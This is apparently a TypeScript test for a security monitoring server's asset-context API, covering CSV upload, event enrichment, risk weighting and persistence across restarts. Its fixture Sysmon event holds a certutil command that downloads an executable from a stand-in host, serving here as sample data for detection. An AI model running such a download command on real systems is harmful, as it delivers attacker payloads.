/** Asset and identity tables over the API: upload, enrichment of new events, risk, restart. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { startTestServer } from '../../testing/server.js';

const WHOAMI = JSON.stringify({
  '@timestamp': '2026-06-01T10:00:00Z',
  Event: { System: { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'ws1' }, EventData: { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f https://x.example/a.exe a.exe', User: 'CORP\\bob' } },
});

test('context API: an uploaded asset table enriches new events and weighs risk; it survives a restart', async () => {
  const first = await startTestServer('', { keepData: true });
  try {
    const bad = await first.request('/api/v1/context/servers', { method: 'PUT', headers: { 'content-type': 'text/csv' }, body: 'x' });
    assert.equal(bad.status, 404);
    const up = await first.request('/api/v1/context/assets', { method: 'PUT', headers: { 'content-type': 'text/csv' }, body: 'host,criticality,owner\nws1,5,finance-it\nws2,high,nobody\n' });
    const result = (await up.json()) as { rows: number; errors: Array<{ line: number }> };
    assert.equal(up.status, 200, JSON.stringify(result));
    assert.equal(result.rows, 1);
    assert.deepEqual(result.errors.map((e) => e.line), [3], 'the bad row is reported by line, the good one applies');

    assert.equal((await first.request('/api/v1/ingest?source=edr', { method: 'POST', body: WHOAMI })).status, 200);
    await first.server.detection?.live.idle();
    await first.server.alerts?.idle();
    const rows = (await (await first.request('/api/v1/search?q=host.name:ws1&from=2026-06-01&to=2026-06-02')).json()) as { rows: Array<Record<string, unknown>> };
    assert.equal(rows.rows[0]?.['host.criticality'], 5);
    assert.equal(rows.rows[0]?.['host.owner'], 'finance-it');
    const risk = (await (await first.request('/api/v1/entities/risk')).json()) as { entities: Array<{ kind: string; value: string; risk?: number; score?: number }> };
    const ws1 = risk.entities.find((e) => e.kind === 'host' && e.value === 'ws1');
    const user = risk.entities.find((e) => e.kind === 'user');
    assert.ok(ws1 && user, JSON.stringify(risk));
    const score = (e: { risk?: number; score?: number }) => e.risk ?? e.score ?? 0;
    assert.equal(score(ws1), 5 * score(user), 'the host weighs five times an uncritical entity of the same alert');
  } finally {
    await first.stop();
  }
  const second = await startTestServer('', { dataDir: first.dataDir });
  try {
    const got = (await (await second.request('/api/v1/context/assets')).json()) as { rows: number };
    assert.equal(got.rows, 1);
  } finally {
    await second.stop();
  }
});
